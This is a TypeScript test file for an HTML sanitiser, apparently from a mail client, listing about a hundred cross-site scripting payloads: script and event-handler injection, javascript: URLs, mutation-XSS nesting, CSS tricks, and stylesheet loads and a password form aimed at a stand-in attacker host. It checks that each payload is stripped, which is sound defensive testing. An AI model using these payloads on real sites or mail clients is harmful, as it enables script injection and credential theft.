import { describe, expect, it } from 'vitest';
import { htmlToPlainText, textToHtml } from './plain-text.ts';
import { sanitiseHtml, readdressRemoteImages } from './sanitising.ts';

/** One attack per line, from the usual collections (OWASP, DOMPurify's history, mail clients' own). */
const ATTACKS = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<script>alert(1)', '<script/x>alert(1)</script>', '<<script>alert(1);//<</script>',
  '<img src=x onerror=alert(1)>', '<img src=x onerror="alert(1)"//', '<IMG """><SCRIPT>alert(1)</SCRIPT>">', '<img/src=x/onerror=alert(1)>', '<img src="javascript:alert(1)">', '<img src="jav&#x09;ascript:alert(1)">', '<img src=`javascript:alert(1)`>', '<img src="data:text/html,<script>alert(1)</script>">', '<img src="data:image/svg+xml;base64,PHN2Zz4=">', '<img srcset="javascript:alert(1) 1x">', '<img lowsrc="javascript:alert(1)">', '<img dynsrc="javascript:alert(1)">', '<img usemap="#m" src=x><map name=m><area href="javascript:alert(1)"></map>', '<img data-remote-src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>', '<a href="JaVaScRiPt:alert(1)">x</a>', '<a href=" javascript:alert(1)">x</a>', '<a href="java\nscript:alert(1)">x</a>', '<a href="java&#10;script:alert(1)">x</a>', '<a href="&#106;&#97;vascript:alert(1)">x</a>', '<a href="\u0001javascript:alert(1)">x</a>', '<a href="vbscript:msgbox(1)">x</a>', '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', '<a href="//evil.example">x</a>', '<a href="/api/v1/keys">x</a>', '<a onclick=alert(1) href="https://ok.example">x</a>', '<a href="https://ok.example" target=_self rel=opener>x</a>', '<a href="file:///etc/passwd">x</a>', '<a href="blob:https://x/y">x</a>', '<a href="feed:javascript:alert(1)">x</a>', '<a style="behavior:url(x.htc)">x</a>',
  '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<svg><animate onbegin=alert(1)>', '<svg><style><img src=x onerror=alert(1)></style></svg>', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<style>@import "//evil.example/x.css";</style>', '<style>body{display:none}</style>', '<link rel=stylesheet href="//evil.example/x.css">', '<div style="background:url(javascript:alert(1))">x</div>', '<div style="background-image:url(https://evil.example/t.gif)">x</div>', '<div style="width:expression(alert(1))">x</div>', '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>', '<div style="-moz-binding:url(x.xml#y)">x</div>', '<div style="color:red;background:\\75rl(//evil.example)">x</div>', '<div style="font-family:x;}</style><script>alert(1)</script>">x</div>',
  '<form action="//evil.example"><input name=password><button>Go</button></form>', '<input onfocus=alert(1) autofocus>', '<isindex action=javascript:alert(1) type=image>', '<button formaction=javascript:alert(1)>x</button>', '<textarea></textarea><script>alert(1)</script>', '<textarea><img title="</textarea><img src=x onerror=alert(1)>">', '<select><option><img src=x onerror=alert(1)></select>', '<keygen autofocus onfocus=alert(1)>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', '<base href="https://evil.example/">', '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<frameset><frame src="javascript:alert(1)"></frameset>', '<object data="javascript:alert(1)"></object>', '<embed src="javascript:alert(1)">', '<applet code=x></applet>', '<video><source onerror=alert(1)></video>', '<audio src=x onerror=alert(1)>', '<details open ontoggle=alert(1)>x</details>', '<marquee onstart=alert(1)>x</marquee>', '<body onload=alert(1)>x', '<table background="javascript:alert(1)"><tr><td>x</table>', '<td background="https://evil.example/t.gif">x', '<bgsound src="javascript:alert(1)">', '<layer src="//evil.example">', '<xml id=x><a><b>&lt;script>alert(1)&lt;/script></b></a></xml>', '<div datasrc=#x datafld=b>x</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">', '<plaintext><img src=x onerror=alert(1)>', '<template><img src=x onerror=alert(1)></template>', '<title><img title="</title><img src=x onerror=alert(1)>">', '<!--><img src=x onerror=alert(1)>-->', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->', '<![CDATA[<script>alert(1)</script>]]>', '<?xml version="1.0"?><script>alert(1)</script>', '<p id="__proto__" class="x" name="body">x</p>', '<div contenteditable onblur=alert(1)>x</div>', '<p title="x\u0000" onmouseover=alert(1)>x</p>', '<a href="https://ok.example/&quot; onclick=&quot;alert(1)">x</a>', '<img alt="`onerror=alert(1)" src=x>', '<p/onclick=alert(1)>x</p>', '<x onclick=alert(1)>x</x>',
]; // prettier-ignore

/** What a browser would act upon: an element or attribute outside the list of harmless ones, or an address with another scheme. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const tags =
    /^(?:a|abbr|b|blockquote|br|center|code|details|div|em|font|h[1-6]|hr|i|img|li|ol|p|pre|s|span|strong|sub|summary|sup|table|tbody|td|th|thead|tr|u|ul)$/;
  const attributes =
    /^(?:style|dir|lang|title|align|valign|bgcolor|width|height|href|rel|target|src|alt|border|data-remote-src|cellpadding|cellspacing|colspan|rowspan|color|face|size)$/;
  for (const tag of html.matchAll(/<\/?([^\s/>]+)((?:[^>"']|"[^"]*"|'[^']*')*)>?/g)) {
    if (!tags.test(tag[1] ?? '')) found.push(`element ${tag[1] ?? ''}`);
    for (const [, name = '', value = ''] of (tag[2] ?? '').matchAll(/([^\s=/"']+)(?:="([^"]*)")?/g)) {
      if (!attributes.test(name)) found.push(`attribute ${name}`);
      if (['href', 'src', 'data-remote-src'].includes(name) && !/^(?:https?:\/\/|mailto:|tel:|\/files\/)/.test(value))
        found.push(`address ${value}`);
      if (name === 'src' && !value.startsWith('/files/')) found.push(`remote picture ${value}`);
      if (name === 'style' && /url|expression|position|behavior|binding|import|\\/i.test(value))
        found.push(`style ${value}`);
      if (name === 'target' && value !== '_blank') found.push(`target ${value}`);
    }
  }
  return found;
}

describe('HTML of a stranger', () => {
  it.each(ATTACKS)('cannot attack by %s', (attack) => {
    const once = sanitiseHtml(`<p>before</p>${attack}`).html;
    expect(dangers(once)).toEqual([]);
    expect(sanitiseHtml(once).html).toBe(once);
  });

  it('keeps what people write', () => {
    const html =
      '<h1>Title</h1><p style="color:#ff0000;margin:0 0 1em">Hello <b>you</b></p><ul><li>one</li></ul><table border="1"><tr><td colspan="2">x</td></tr></table>';
    expect(sanitiseHtml(html).html).toBe(html);
  });

  it('opens links elsewhere and tells nobody', () => {
    expect(sanitiseHtml('<a href="https://x.example/?a=1&amp;b=2">x</a>').html).toBe(
      '<a href="https://x.example/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">x</a>',
    );
  });

  it('shows attached pictures and holds back remote ones', () => {
    const result = sanitiseHtml(
      '<img src="cid:a%40b" alt="A"><img src="cid:gone"><img src="https://t.example/p.gif?u=1&amp;v=2" width="1">',
      (id) => (id === 'a@b' ? '/files/1' : null),
    );
    expect(result).toMatchObject({ remoteImages: 1, shownCids: ['a@b'] });
    expect(result.html).toContain('src="/files/1"');
    expect(result.html).not.toContain(' src="https');
    expect(
      readdressRemoteImages(result.html, (remote) => `/pictures?at=${encodeURIComponent(remote)}&key=k`),
    ).toContain(' data-remote-src="/pictures?at=https%3A%2F%2Ft.example%2Fp.gif%3Fu%3D1%26v%3D2&amp;key=k"');
  });

  it('survives depth and size', () => {
    expect(sanitiseHtml('<div>'.repeat(20_000) + 'x').html).toContain('x');
    const large = sanitiseHtml(`<p>words</p>${'<i>x</i>'.repeat(300_000)}`);
    expect(large.reduced).toBe(true);
    expect(large.html).toContain('words');
  });
});

describe('text and HTML', () => {
  it('plain text becomes safe HTML with links', () => {
    expect(textToHtml('See <b> https://x.example/a_(b). Or ann@x.example')).toBe(
      '<p>See &lt;b&gt; <a href="https://x.example/a_(b)" rel="noopener noreferrer nofollow" target="_blank">https://x.example/a_(b)</a>. Or <a href="mailto:ann@x.example" rel="noopener noreferrer nofollow" target="_blank">ann@x.example</a></p>',
    );
  });

  it('HTML becomes readable text', () => {
    expect(
      htmlToPlainText(
        '<head><title>T</title><style>x{}</style></head><p>One<br>two</p><ul><li>a</li></ul><blockquote>q</blockquote><a href="https://x.example">site</a>',
      ),
    ).toBe('One\ntwo\n\n * a\n\n> q\n\nsite <https://x.example>');
  });
});
